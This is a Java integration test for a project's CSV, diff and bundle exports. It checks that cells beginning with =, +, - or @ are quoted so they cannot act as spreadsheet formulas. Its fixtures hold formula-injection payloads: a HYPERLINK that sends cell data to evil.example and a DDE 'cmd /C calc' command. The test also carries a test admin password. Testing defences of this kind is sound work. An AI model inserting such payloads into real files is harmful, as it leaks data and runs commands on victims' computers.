package se.samverkansvaven.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import se.samverkansvaven.ApiClient;
import se.samverkansvaven.database.GraphRevisions;
import se.samverkansvaven.importing.BundleFiles;
import se.samverkansvaven.importing.BundleImporter;
import se.samverkansvaven.testing.GraphChecksum;
import se.samverkansvaven.testing.TestBodies;

/**
 * The CSV exports against formula injection (issue 18, item 10; docs/exports.md): a body whose name is
 * {@code =HYPERLINK(…)} and whose rows carry {@code +…}, {@code -…}, {@code @…} and {@code '…} comes out of the
 * csv, diff and bundle exports with those cells behind a leading {@code '}; the bundle, whose metadata.json says
 * so, loads back to exactly the graph it came from; with samverkansvaven.export.raw-csv-cells the cells are raw.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class CsvInjectionTest {

    static final String NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")";
    static final String SOURCE = "@SUM(1+1)";
    static final String REPRESENTATIVE = "-2+3+cmd|' /C calc'!A0";
    static final String QUOTED = "'citat";
    static final String ADMIN = "Basic " + Base64.getEncoder().encodeToString("admin:test-admin-password"
            .getBytes(StandardCharsets.UTF_8));

    @LocalServerPort
    int port;

    @Autowired
    Driver driver;

    @AfterAll
    static void removeTestBodies(@Autowired Driver driver, @Autowired GraphRevisions revisions) {
        TestBodies.remove(driver, revisions, "csvinj-");
    }

    @BeforeEach
    void aBodyWithFormulas(@Autowired BundleImporter importer) {
        importer.importBundle(BundleFiles.of(Map.of(
                "bodies.csv", csv("id,form,name,sector,level,governance,seat_code,valid_from,valid_to,source",
                        List.of("csvinj-a", "ASSOCIATION", NAME, "", "", "", "", "2020-01-01", "", SOURCE)),
                "parties.csv", csv("body_id,party,role,valid_from,valid_to,representative,source",
                        List.of("csvinj-a", "1496", "MEMBER", "2020-01-01", "", REPRESENTATIVE, QUOTED),
                        List.of("csvinj-a", "1497", "MEMBER", "2020-01-01", "", "+46 500 49 80 00", "-12.5")))));
    }

    @Test
    void theCsvExportQuotesFormulaCells() throws Exception {
        var zip = SnapshotExportTest.unzip(get("/api/snapshots?asOf=2025-01-01&format=csv"));
        CSVRecord node = record(zip.get("nodes.csv"), "id", "csvinj-a");
        assertThat(node.get("name")).isEqualTo("'" + NAME);
        assertThat(node.get("provenance")).isEqualTo("'" + SOURCE);
        CSVRecord row = edge(zip.get("edges.csv"), "1496");
        assertThat(row.get("representative")).isEqualTo("'" + REPRESENTATIVE);
        assertThat(row.get("provenance")).isEqualTo("'" + QUOTED);
        CSVRecord other = edge(zip.get("edges.csv"), "1497");
        assertThat(other.get("representative")).isEqualTo("'+46 500 49 80 00");
        assertThat(other.get("provenance")).isEqualTo("-12.5"); // a number is no formula
        assertThat(SnapshotExportTest.JSON.readTree(zip.get("metadata.json")).get("neutralisedCells").asBoolean()).isTrue();
    }

    @Test
    void theDiffCsvQuotesFormulaCells() throws Exception {
        String diff = new String(get("/api/snapshots/diff?from=2019-06-01&to=2020-06-01&format=csv"), StandardCharsets.UTF_8);
        CSVRecord started = parse(diff.getBytes(StandardCharsets.UTF_8)).stream()
                .filter(r -> r.get("body").equals("csvinj-a") && r.get("change").equals("BODY_STARTED")).findFirst().orElseThrow();
        assertThat(started.get("body_name")).isEqualTo("'" + NAME);
    }

    @Test
    void theBundleQuotesFormulaCellsAndLoadsBackToTheSameGraph() throws Exception {
        byte[] bundle = get("/api/snapshots?asOf=2025-01-01&format=bundle");
        var files = SnapshotExportTest.unzip(bundle);
        assertThat(record(files.get("bodies.csv"), "id", "csvinj-a").get("name")).isEqualTo("'" + NAME);
        assertThat(SnapshotExportTest.JSON.readTree(files.get("metadata.json")).get("neutralisedCells").asBoolean()).isTrue();

        String before = GraphChecksum.withoutRevision(driver);
        var loaded = upload(bundle);
        assertThat(loaded.status()).as(loaded.text()).isEqualTo(201);
        assertThat(loaded.json().get("relationshipsCreated").asLong()).isZero();
        assertThat(GraphChecksum.withoutRevision(driver)).as("the graph after loading its own bundle").isEqualTo(before);
    }

    @Test
    void rawCellsWhenTheSettingSaysSo(@Autowired SnapshotReader reader, @Autowired AppVersion version) throws Exception {
        var raw = new SnapshotExporter(reader, version, new ExportProperties(true));
        var export = raw.export(ExportFormat.CSV, java.time.LocalDate.of(2025, 1, 1), null, null,
                SnapshotFilter.NONE, ExportProgress.NONE);
        var out = new ByteArrayOutputStream();
        export.writeTo(out);
        var zip = SnapshotExportTest.unzip(out.toByteArray());
        assertThat(record(zip.get("nodes.csv"), "id", "csvinj-a").get("name")).isEqualTo(NAME);
        assertThat(export.metadata()).containsEntry("neutralisedCells", false);
    }

    private byte[] get(String path) throws Exception {
        var api = new ApiClient(port);
        var response = java.net.http.HttpClient.newHttpClient().send(HttpRequest.newBuilder(api.uri(path)).GET().build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(response.statusCode()).as(path).isEqualTo(200);
        return response.body();
    }

    private ApiClient.Response upload(byte[] zip) {
        var api = new ApiClient(port);
        String boundary = "csvinj" + System.nanoTime();
        var out = new ByteArrayOutputStream();
        out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"b.zip\"\r\n"
                + "Content-Type: application/zip\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(zip);
        out.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.US_ASCII));
        return api.send(HttpRequest.newBuilder(api.uri("/api/imports")).header("Authorization", ADMIN)
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(out.toByteArray())).build());
    }

    private static CSVRecord record(byte[] csv, String column, String value) throws Exception {
        return parse(csv).stream().filter(r -> r.get(column).equals(value)).findFirst().orElseThrow();
    }

    private static CSVRecord edge(byte[] csv, String party) throws Exception {
        return parse(csv).stream().filter(r -> r.get("source").equals(party) && r.get("target").equals("csvinj-a"))
                .findFirst().orElseThrow();
    }

    private static List<CSVRecord> parse(byte[] csv) throws Exception {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(csv, StandardCharsets.UTF_8))).getRecords();
    }

    @SafeVarargs
    private static byte[] csv(String header, List<String>... rows) {
        var out = new StringBuilder(header).append('\n');
        for (List<String> row : rows) {
            out.append(String.join(",", row.stream().map(c -> c.isEmpty() ? c : '"' + c.replace("\"", "\"\"") + '"')
                    .toList())).append('\n');
        }
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }
}
